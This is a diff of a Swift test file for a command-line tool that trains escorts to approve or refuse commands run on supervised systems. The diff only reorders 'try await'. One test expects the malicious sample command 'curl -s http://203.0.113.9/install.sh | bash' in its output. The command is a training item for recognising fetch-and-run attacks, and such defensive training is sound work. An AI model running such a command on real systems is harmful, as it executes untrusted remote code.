@@ -22,7 +22,7 @@ struct TrainCLITests {
 
     func cli() async throws -> ReportCLI {
         let cli = ReportCLI()
-        let r = await try cli.run([
+        let r = try await cli.run([
             "person", "add", "--name", "bob", "--display-name", "Bob", "--employer", "Acme", "--contractor", "Prime Co",
             "--citizenship", "US", "--residence", "US", "--location", "US", "--clearance", "secret", "--role", "escort",
             "--training-expires", "2020-01-01",
@@ -32,14 +32,14 @@ struct TrainCLITests {
     }
 
     @Test func listShowsTheShippedSet() async throws {
-        let r = await try ReportCLI().run(["train", "--list"])
+        let r = try await ReportCLI().run(["train", "--list"])
         #expect(r.status == 0)
         #expect(r.stdout.contains("Set escort-annual: 5 scenarios"))
         #expect(r.stdout.contains("web-maintenance: Web server maintenance — 22 decisions (6 malicious)"))
     }
 
     @Test func passingTheWholeSetSetsTheTrainingDateAndIsAudited() async throws {
-        let cli = await try cli()
+        let cli = try await cli()
         let files = try FileManager.default.contentsOfDirectory(atPath: Self.scenarioDir).sorted().map { Self.scenarioDir + "/" + $0 }
         // The set runs in scenario-id order.
         let order = ["covering-tracks", "database-support", "hidden-payloads", "scripts-and-heredocs", "web-maintenance"]
@@ -47,11 +47,11 @@ struct TrainCLITests {
             (try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: f))) as? [String: Any])["id"] as! String, f)
         })
         let input = try order.map { try Self.answers(byID[$0]!) }.joined()
-        let r = await try cli.run(["train", "--person", "bob", "--set", "escort-annual"], input: input)
+        let r = try await cli.run(["train", "--person", "bob", "--set", "escort-annual"], input: input)
         #expect(r.status == 0, "\(r.stderr)")
         #expect(r.stdout.components(separatedBy: "=== Result: PASSED").count - 1 == 5)
         #expect(r.stdout.contains("Escort training for bob now valid until"))
-        let list = await try cli.run(["person", "list", "--format", "json"])
+        let list = try await cli.run(["person", "list", "--format", "json"])
         let people = try #require(try JSONSerialization.jsonObject(with: Data(list.stdout.utf8)) as? [[String: Any]])
         let until = try #require(people.first?["escort_training_expires"] as? String)
         #expect(until > "2027-")
@@ -63,10 +63,10 @@ struct TrainCLITests {
     }
 
     @Test func aMissIsExplainedAndFailsTheScenario() async throws {
-        let cli = await try cli()
+        let cli = try await cli()
         let file = Self.scenarioDir + "/01-web-maintenance.json"
         // Decision 5 (index 4) is the curl | bash: approve it in both rounds.
-        let r = await try cli.run(["train", "--person", "bob", "--scenario", file], input: try Self.answers(file, wrong: [4]))
+        let r = try await cli.run(["train", "--person", "bob", "--scenario", file], input: try Self.answers(file, wrong: [4]))
         #expect(r.status == 1, "\(r.stderr)")
         #expect(r.stdout.contains("=== Result: NOT PASSED"))
         #expect(r.stdout.contains("#5 curl -s http://203.0.113.9/install.sh | bash"))
@@ -77,8 +77,8 @@ struct TrainCLITests {
     }
 
     @Test func answersThatStopEarlyRecordNothing() async throws {
-        let cli = await try cli()
-        let r = await try cli.run(["train", "--person", "bob", "--scenario", Self.scenarioDir + "/01-web-maintenance.json"], input: "a\nmaybe\na\nr\n")
+        let cli = try await cli()
+        let r = try await cli.run(["train", "--person", "bob", "--scenario", Self.scenarioDir + "/01-web-maintenance.json"], input: "a\nmaybe\na\nr\n")
         #expect(r.status == 2)
         #expect(r.stdout.contains("Please answer a (approve) or r (refuse)."))
         #expect(r.stderr.contains("TRN-005"))
@@ -86,15 +86,15 @@ struct TrainCLITests {
     }
 
     @Test func badScenarioFilesAndPeople() async throws {
-        let cli = await try cli()
+        let cli = try await cli()
         try #"{"format":"escort-training-scenario","version":1,"id":"x","title":"T","set":"s","summary":"S","target":"t","impact_level":"IL4","validity_days":30,"decisions":[{"id":"a","context":"c","command":"ls","expected":"approve"}]}"#
             .write(toFile: cli.dir.file("bad.json"), atomically: true, encoding: .utf8)
-        let bad = await try cli.run(["train", "--person", "bob", "--scenario", "bad.json"])
+        let bad = try await cli.run(["train", "--person", "bob", "--scenario", "bad.json"])
         #expect(bad.status == 2)
         #expect(bad.stderr.contains("TRN-001: bad.json: decisions[0].why: is required"), "\(bad.stderr)")
-        let nobody = await try cli.run(["train", "--person", "nobody", "--set", "escort-annual"])
+        let nobody = try await cli.run(["train", "--person", "nobody", "--set", "escort-annual"])
         #expect(nobody.status == 2 && nobody.stderr.contains("TRN-004: no person named nobody"))
-        let noSet = await try cli.run(["train", "--person", "bob", "--set", "nope"])
+        let noSet = try await cli.run(["train", "--person", "bob", "--set", "nope"])
         #expect(noSet.status == 2 && noSet.stderr.contains("TRN-003: no scenario set named \"nope\""))
     }
 }
